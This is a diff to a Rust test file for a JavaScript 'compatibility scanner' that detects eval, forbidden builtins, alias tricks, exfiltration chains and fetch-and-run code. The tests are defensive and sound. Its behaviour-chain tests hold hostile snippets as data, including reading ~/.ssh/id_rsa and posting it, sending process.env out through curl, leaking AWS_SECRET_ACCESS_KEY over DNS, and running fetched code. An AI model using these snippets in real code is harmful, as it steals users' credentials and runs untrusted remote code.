@@ -1,8 +1,9 @@
-//! The compatibility scanner through its public API: every rule, every lexer
-//! edge case that could hide or fake a pattern, report shape, and robustness
+//! The compatibility scanner through its public API: every rule, the parser
+//! edge cases that could hide or fake a pattern (regex/division, contextual
+//! keywords, TypeScript generics), alias resolution, dynamic access, behaviour
+//! chains, package scanning, report shape, and robustness
 //! (`compatibility_scanner_never_panics_on_*`).
 
-use seclab_engine::scanner::lexer::{tokenize, TokenKind};
 use seclab_engine::scanner::{scan_paths, scan_source, MAX_FILE_BYTES};
 use seclab_engine::{Capability, RuleId, Severity, Verdict};
 
@@ -188,10 +189,9 @@ fn compatibility_scanner_obfuscated_specifiers() {
     assert_only("createRequire(import.meta.url)('vm')", RuleId::ForbiddenBuiltin);
     assert_only("process.getBuiltinModule('node:vm')", RuleId::ForbiddenBuiltin);
     assert_only("import vm = require('vm')", RuleId::ForbiddenBuiltin);
-    assert_eq!(
-        rules("const r = require; r('vm')"),
-        vec![RuleId::DynamicRequire, RuleId::ForbiddenBuiltin]
-    );
+    // An alias of require is followed to its call (no separate escape finding).
+    assert_eq!(rules("const r = require; r('vm')"), vec![RuleId::ForbiddenBuiltin]);
+    assert_only("foo(require)", RuleId::DynamicRequire);
 }
 
 // ---- flagged rules and capabilities ----------------------------------------
@@ -267,24 +267,19 @@ fn compatibility_scanner_capability_inference() {
     );
 }
 
-// ---- lexer edge cases -------------------------------------------------------
+// ---- parser: what a token guesser gets wrong ------------------------------
 
 #[test]
-fn compatibility_scanner_lexer_strings_templates_regex_comments() {
-    // Escaped quotes keep the string open; the code after it is code.
+fn compatibility_scanner_strings_templates_regex_comments() {
     assert_only(r#"const s = 'it\'s \' eval(' ; eval(x)"#, RuleId::EvalCall);
     assert_only(r#"const s = "a \" eval(\" b"; eval(x)"#, RuleId::EvalCall);
-    // Template text is not code, substitutions are; nested braces and strings inside.
     assert_only("`eval(x) ${ {a: '}'}.a } ${eval(y)}`", RuleId::EvalCall);
     assert_clean("`${`${`eval(x)`}`}`");
-    // Regex literal vs division.
     assert_clean("const r = /[/]eval(x)/g; const q = /\\/eval(/");
     assert_only("const z = a / b / eval(c)", RuleId::EvalCall);
     assert_only("if (ok) /eval/.test(s) && eval(s)", RuleId::EvalCall);
     assert_only("x = {} / eval(y) / 1", RuleId::EvalCall);
-    // Comments.
     assert_clean("/* eval(x)\n require('vm') */ // process.binding('fs')");
-    // Hashbang.
     assert_eq!(
         findings("#!/usr/bin/env node eval(x)\neval(y)"),
         vec![(RuleId::EvalCall, 2, 1)]
@@ -292,34 +287,182 @@ fn compatibility_scanner_lexer_strings_templates_regex_comments() {
 }
 
 #[test]
-fn compatibility_scanner_lexer_tokens_and_positions() {
-    let src = "let é = 'x';\r\nconst n = 0x1f + 1e3 + .5 + 10n; class A { #p = 1 }";
-    let l = tokenize(src.as_bytes());
-    assert!(l.diagnostics.is_empty());
-    let n = l.tokens.iter().find(|t| t.text(src.as_bytes()) == b"0x1f").unwrap();
-    assert_eq!((n.kind, n.line, n.column), (TokenKind::Number, 2, 11));
-    assert!(l.tokens.iter().any(|t| t.kind == TokenKind::PrivateName));
-    // Columns count characters, not bytes.
+fn compatibility_scanner_lexer_desync_cases_of_issue_13_are_caught() {
+    // A function expression divided by a call.
+    assert_only("const r = function () {} / eval(code) / 1", RuleId::EvalCall);
+    // Contextual keywords as variables before `/` (sloppy script).
+    let r = scan_source(
+        "t.cjs",
+        b"var of = 1, async = 2; x = async / eval(y) / of; z = of / require('vm') / 1",
+    );
+    let got: Vec<_> = r.findings.iter().map(|f| f.rule).collect();
+    assert_eq!(got, vec![RuleId::EvalCall, RuleId::ForbiddenBuiltin]);
+    // A TypeScript generic return type before a function body.
+    let ts = "function f<T>(x: T): Map<string, Array<T>> { return eval(x) }\nconst g = async <T,>(a: T): Promise<T> => { await import('node:child_process'); return a }";
+    let r = scan_source("t.ts", ts.as_bytes());
+    let got: Vec<_> = r.findings.iter().map(|f| f.rule).collect();
+    assert_eq!(got, vec![RuleId::EvalCall, RuleId::ChildProcess], "{:?}", r.findings);
+    // JSX and TSX parse as such.
+    let r = scan_source(
+        "c.tsx",
+        b"export const C = <T,>(p: T) => <div onClick={() => eval(p)}>{'eval(x)'}</div>;",
+    );
+    assert_eq!(
+        r.findings.iter().map(|f| f.rule).collect::<Vec<_>>(),
+        vec![RuleId::EvalCall]
+    );
+}
+
+#[test]
+fn compatibility_scanner_positions_count_characters_and_js_line_ends() {
     assert_eq!(findings("'é'; eval(x)"), vec![(RuleId::EvalCall, 1, 6)]);
-    // CR, CRLF, LS/PS are line terminators.
     assert_eq!(findings("a\rb\r\nc\u{2028}eval(x)"), vec![(RuleId::EvalCall, 4, 1)]);
 }
 
 #[test]
-fn compatibility_scanner_lexer_unterminated_tokens_are_warnings() {
+fn compatibility_scanner_files_that_do_not_parse_fail_closed() {
     for src in [
         "'abc",
         "\"abc\neval(x)",
         "`abc ${ x",
         "/* never closed",
         "x = /unterminated\neval(y)",
+        "const x = {;",
     ] {
         let r = scan_source("t.js", src.as_bytes());
         assert!(r.error.is_none());
+        assert_eq!(r.verdict, Verdict::Forbidden, "{src}");
+        assert!(r.findings.iter().any(|f| f.rule == RuleId::ParseError), "{src}");
         assert!(!r.diagnostics.is_empty(), "{src}");
     }
-    // A string cut at end of line does not swallow the next line's code.
-    assert_only("const s = 'abc\neval(x)", RuleId::EvalCall);
+    // TypeScript syntax in a .js file does not parse: fail closed, not skipped.
+    assert_eq!(scan_source("t.js", b"let x: number = 1").verdict, Verdict::Forbidden);
+    assert_eq!(scan_source("t.ts", b"let x: number = 1").verdict, Verdict::Clean);
+}
+
+// ---- alias resolution, dynamic access, behaviour chains ---------------------
+
+#[test]
+fn compatibility_scanner_aliases_are_followed_through_bindings() {
+    assert_only("function run(g) { g.eval(x) } run(globalThis)", RuleId::EvalCall);
+    assert_only(
+        "run(self); function run(g) { const { Function: F } = g; }",
+        RuleId::FunctionConstructor,
+    );
+    assert_only(
+        "(({ process: p }) => p.binding('fs'))(globalThis)",
+        RuleId::ProcessBinding,
+    );
+    assert_only("let p; p = globalThis.process; p.dlopen(m, f)", RuleId::ProcessDlopen);
+    assert_only("const k = 'ev' + 'al'; globalThis[k](x)", RuleId::EvalCall);
+    assert_only(
+        "const { createRequire } = require('module'); createRequire(__filename)('vm')",
+        RuleId::ForbiddenBuiltin,
+    );
+    assert_only(
+        "import { createRequire as cr } from 'node:module'; const r = cr(import.meta.url); r('worker_threads')",
+        RuleId::ForbiddenBuiltin,
+    );
+    // Shadowing: a local named eval or process is not the global.
+    assert_clean("function f(eval, process) { eval(x); process.binding('y') }");
+    assert_clean("const globalThis = {}; globalThis.eval(x)");
+}
+
+#[test]
+fn compatibility_scanner_dynamic_access_on_powerful_objects() {
+    for src in [
+        "globalThis[name](x)",
+        "const g = window; g[k]",
+        "process[k]('x')",
+        "require[k]",
+        "module[k]",
+        "Reflect.get(globalThis, k)",
+        "const { [k]: v } = process",
+    ] {
+        assert_only(src, RuleId::DynamicAccess);
+    }
+    // Ordinary objects and the environment's variables are not powerful.
+    assert_clean("obj[k]; arr[i + 1]; map[key] = 1");
+    assert_only("process.env[name]", RuleId::ProcessEnv);
+}
+
+#[test]
+fn compatibility_scanner_function_and_eval_by_any_route() {
+    for src in [
+        "[].map.constructor('return this')()",
+        "''.constructor.constructor(code)",
+        "f.constructor.constructor(code)",
+    ] {
+        assert_only(src, RuleId::FunctionConstructor);
+    }
+    assert_only(
+        "Object.getPrototypeOf(async function () {}).constructor('x')",
+        RuleId::FunctionConstructor,
+    );
+    for src in [
+        "setTimeout('x()', 1)",
+        "setInterval(`tick(${n})`, 5)",
+        "Reflect.apply(eval, null, [c])",
+        "window.setTimeout('a' + b)",
+    ] {
+        assert_only(src, RuleId::EvalCall);
+    }
+    assert_clean("setTimeout(() => tick(), 1); setInterval(fn, 5); x.constructor.name");
+    assert_only("import('data:text/javascript,1')", RuleId::EvalCall);
+    assert_only("import('https://cdn.example/x.mjs')", RuleId::FetchAndRun);
+}
+
+#[test]
+fn compatibility_scanner_behaviour_chains() {
+    let chain = |src: &str| {
+        scan_source("t.js", src.as_bytes())
+            .findings
+            .iter()
+            .any(|f| f.rule == RuleId::ExfiltrationChain)
+    };
+    assert!(chain(
+        "const h = require('https'); h.request(o).end(JSON.stringify(process.env))"
+    ));
+    assert!(chain(
+        "const os = require('os'); fetch('https://x', { method: 'POST', body: os.hostname() })"
+    ));
+    assert!(chain("const fs = require('fs'); const k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa'); fetch(u, { body: k })"));
+    assert!(chain(
+        "const { exec } = require('child_process'); exec('curl -d ' + JSON.stringify(process.env) + ' x')"
+    ));
+    assert!(chain(
+        "const dns = require('dns'); dns.lookup(process.env.AWS_SECRET_ACCESS_KEY + '.x.example', cb)"
+    ));
+    assert!(chain(
+        "const fs = require('fs'); const os = require('os'); fs.writeFileSync('/tmp/.h', os.userInfo().username)"
+    ));
+    // What honest extensions do: a named token sent to its API, the
+    // environment handed to a child process, a config file read and shown.
+    assert!(!chain(
+        "fetch('https://api.example', { headers: { Authorization: 'Bearer ' + process.env.API_TOKEN } })"
+    ));
+    assert!(!chain("const { spawn } = require('child_process'); spawn('git', ['status'], { env: { ...process.env, GIT_PAGER: 'cat' } })"));
+    assert!(!chain(
+        "const fs = require('fs'); const c = fs.readFileSync('./config.json'); fetch(u, { body: c })"
+    ));
+    let run = |src: &str| {
+        scan_source("t.js", src.as_bytes())
+            .findings
+            .iter()
+            .any(|f| f.rule == RuleId::FetchAndRun)
+    };
+    assert!(run(
+        "const cp = require('child_process'); fetch(u).then(r => r.text()).then(s => cp.execSync(s))"
+    ));
+    assert!(run(
+        "require('https').get(u, res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)) })"
+    ));
+    assert!(run(
+        "async function f() { const r = await fetch(u); const code = await r.text(); new Function(code)() }"
+    ));
+    assert!(!run(
+        "const cp = require('child_process'); fetch(u).then(r => r.json()).then(j => console.log(j)); cp.exec('ls')"
+    ));
 }
 
 // ---- report shape, ordering, per-file errors ---------------------------------
@@ -353,6 +496,7 @@ fn compatibility_scanner_bad_files_get_errors_or_warnings() {
     let r = scan_source("u.js", b"\xc3\x28 ; eval(x)");
     assert!(r.diagnostics.iter().any(|d| d.message.contains("UTF-8")));
     assert_eq!(r.verdict, Verdict::Forbidden, "invalid UTF-8 must not hide a pattern");
+    assert!(r.findings.iter().any(|f| f.rule == RuleId::EvalCall));
     let r = scan_source("big.js", &vec![b'a'; MAX_FILE_BYTES as usize]);
     assert!(r.error.as_deref().unwrap_or("").contains("too large"));
     assert_eq!(r.verdict, Verdict::Flagged);
@@ -367,6 +511,7 @@ fn compatibility_scanner_scan_paths_recurses_sorted_and_continues() {
     std::fs::write(d.join("a.ts"), "let x = 1").unwrap();
     std::fs::write(d.join("sub/c.mjs"), "require('vm')").unwrap();
     std::fs::write(d.join("sub/deeper/d.cjs"), b"\xff\xfe").unwrap();
+    std::fs::write(d.join("sub/e.tsx"), "export const E = () => <b/>").unwrap();
     std::fs::write(d.join("sub/notes.md"), "eval(x)").unwrap();
     let reports = scan_paths(&[d.to_path_buf(), d.join("missing.js")]);
     let names: Vec<_> = reports
@@ -375,10 +520,18 @@ fn compatibility_scanner_scan_paths_recurses_sorted_and_continues() {
         .collect();
     assert_eq!(
         names,
-        vec!["/a.ts", "/b.js", "/sub/c.mjs", "/sub/deeper/d.cjs", "/missing.js"]
+        vec![
+            "/a.ts",
+            "/b.js",
+            "/sub/c.mjs",
+            "/sub/deeper/d.cjs",
+            "/sub/e.tsx",
+            "/missing.js"
+        ]
     );
     assert_eq!(reports[1].verdict, Verdict::Forbidden);
-    assert!(reports[4].error.is_some());
+    assert_eq!(reports[4].verdict, Verdict::Clean);
+    assert!(reports[5].error.is_some());
 }
 
 // ---- robustness -------------------------------------------------------------
@@ -441,19 +594,26 @@ fn compatibility_scanner_never_panics_on_truncated_corpus_files() {
 
 #[test]
 fn compatibility_scanner_never_panics_on_deep_nesting_and_long_lines() {
-    let depth = 200_000;
-    for (open, close) in [("(", ")"), ("[", "]"), ("{", "}"), ("`${", "}`")] {
-        let src = format!("{}eval(x){}", open.repeat(depth), close.repeat(depth));
+    // Moderate nesting is analysed (on the analysis thread's stack) ...
+    for (open, close) in [("(", ")"), ("[", "]"), ("{a:", "}"), ("`${", "}`")] {
+        let src = format!("x = {}eval(x){}", open.repeat(1000), close.repeat(1000));
         assert!(rules(&src).contains(&RuleId::EvalCall), "{open}");
-        let only_open = open.repeat(depth);
-        let _ = scan_source("o.js", only_open.as_bytes());
-        let only_close = close.repeat(depth);
-        let _ = scan_source("c.js", only_close.as_bytes());
     }
-    let long = format!("{}eval(x);", "a+".repeat(1_000_000));
+    // ... and nesting beyond the guard fails closed instead of overflowing the stack.
+    let depth = 200_000;
+    for (open, close) in [("(", ")"), ("[", "]"), ("{", "}"), ("`${", "}`"), ("!", "")] {
+        let src = format!("{}eval(x){}", open.repeat(depth), close.repeat(depth));
+        let r = scan_source("d.js", src.as_bytes());
+        assert_eq!(r.verdict, Verdict::Forbidden, "{open}");
+        let _ = scan_source("o.js", open.repeat(depth).as_bytes());
+        let _ = scan_source("c.js", close.repeat(depth).as_bytes());
+    }
+    let long = format!("x = {}eval(x);", "a+".repeat(1_000_000));
     let r = scan_source("l.js", long.as_bytes());
-    assert_eq!(r.findings.len(), 1);
-    assert!(r.findings[0].snippet.len() < 400);
+    assert_eq!(r.verdict, Verdict::Forbidden);
+    assert!(r.findings.iter().all(|f| f.snippet.len() < 400));
+    let wide = format!("{}eval(x);", "a = 1;\n".repeat(200_000));
+    assert_eq!(rules(&wide), vec![RuleId::EvalCall]);
     let _ = scan_source("s.js", "\\u{".repeat(10_000).as_bytes());
     let _ = scan_source("q.js", "a.".repeat(100_000).as_bytes());
     let _ = scan_source("t.js", "'a'+".repeat(100_000).as_bytes());
